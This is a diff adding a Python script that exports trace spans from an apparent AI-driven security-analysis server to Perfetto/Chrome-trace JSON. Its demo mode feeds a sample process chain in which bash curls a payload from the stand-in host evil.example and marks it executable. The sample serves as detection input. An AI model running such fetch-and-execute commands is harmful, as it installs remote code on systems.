@@ -1,0 +1,122 @@
+#!/usr/bin/env python
+"""Export recorded verdict spans as a Chrome-trace / Perfetto JSON file.
+
+Two sources:
+
+* a live server's /debug surface (the ring holds the newest spans):
+
+      python scripts/export_trace.py --url http://127.0.0.1:11434
+      python scripts/export_trace.py --url ... --id <32-hex trace id>
+
+* ``--demo``: run a self-contained traced scenario in-process (loopback
+  HTTP brain with the heuristic analyst + the real sensor client, no
+  model, no GPU) and export what it recorded — the zero-setup way to
+  get a file to open in a trace viewer.
+
+Open the output (default ``trace.json``) in https://ui.perfetto.dev or
+chrome://tracing: each verdict renders as its own row, stages
+(sensor.post, server.generate, sched.prefill, sched.decode_step, ...)
+as slices.  A per-stage p50/p99 table is printed on exit.
+"""
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import sys
+import urllib.parse
+import urllib.request
+
+# runnable straight from a checkout: scripts/ -> repo root on sys.path
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+
+def _get(url: str) -> dict:
+    with urllib.request.urlopen(url, timeout=10) as resp:
+        return json.loads(resp.read().decode("utf-8"))
+
+
+def spans_from_server(base: str, trace_id: str | None, limit: int) -> list:
+    base = base.rstrip("/")
+    if trace_id:
+        ids = [trace_id]
+    else:
+        listing = _get(f"{base}/debug/traces")
+        ids = [t["trace_id"] for t in listing["traces"][:limit]]
+        if not listing.get("enabled", True):
+            print("warning: server tracing is disabled (--no-trace); "
+                  "the ring only holds older spans", file=sys.stderr)
+    spans = []
+    for tid in ids:
+        q = urllib.parse.quote(tid)
+        spans.extend(_get(f"{base}/debug/trace?id={q}")["spans"])
+    return spans
+
+
+def spans_from_demo(n_verdicts: int) -> list:
+    from chronos_trn.config import SensorConfig, ServerConfig
+    from chronos_trn.sensor.client import AnalysisClient
+    from chronos_trn.serving.backends import HeuristicBackend
+    from chronos_trn.serving.server import ChronosServer
+    from chronos_trn.utils.trace import GLOBAL
+
+    GLOBAL.enabled = True
+    chain = [
+        "[EXEC] bash -> curl http://evil.example/payload.sh",
+        "[EXEC] bash -> chmod +x /tmp/payload.sh",
+        "[OPEN] cat -> /tmp/payload.sh",
+    ]
+    server = ChronosServer(HeuristicBackend(),
+                           ServerConfig(host="127.0.0.1", port=0))
+    server.start()
+    try:
+        client = AnalysisClient(SensorConfig(
+            server_url=f"http://127.0.0.1:{server.port}/api/generate"))
+        for _ in range(n_verdicts):
+            client.analyze(chain)
+    finally:
+        server.stop()
+    return GLOBAL.spans()
+
+
+def main(argv=None) -> int:
+    ap = argparse.ArgumentParser(
+        description="export chronos_trn verdict spans to Chrome-trace JSON")
+    ap.add_argument("--url", default=None,
+                    help="base URL of a live server (e.g. "
+                         "http://127.0.0.1:11434); reads /debug/traces")
+    ap.add_argument("--id", default=None,
+                    help="export a single trace id instead of the newest "
+                         "--limit traces")
+    ap.add_argument("--limit", type=int, default=20,
+                    help="how many recent traces to export (with --url)")
+    ap.add_argument("--demo", action="store_true",
+                    help="run an in-process heuristic-analyst scenario and "
+                         "export its spans (no server needed)")
+    ap.add_argument("--demo-verdicts", type=int, default=8)
+    ap.add_argument("-o", "--out", default="trace.json")
+    args = ap.parse_args(argv)
+
+    if not args.url and not args.demo:
+        ap.error("pick a source: --url <server> or --demo")
+
+    from chronos_trn.utils import trace as trace_lib
+
+    if args.demo:
+        spans = spans_from_demo(args.demo_verdicts)
+    else:
+        spans = spans_from_server(args.url, args.id, args.limit)
+    if not spans:
+        print("no spans to export (is tracing enabled? --trace on launch)",
+              file=sys.stderr)
+        return 1
+    n = trace_lib.dump_chrome_trace(args.out, spans)
+    traces = {s["trace_id"] for s in spans}
+    print(f"wrote {n} events ({len(traces)} traces) -> {args.out}")
+    print("open in https://ui.perfetto.dev or chrome://tracing\n")
+    print(trace_lib.render_breakdown(trace_lib.stage_breakdown(spans)))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
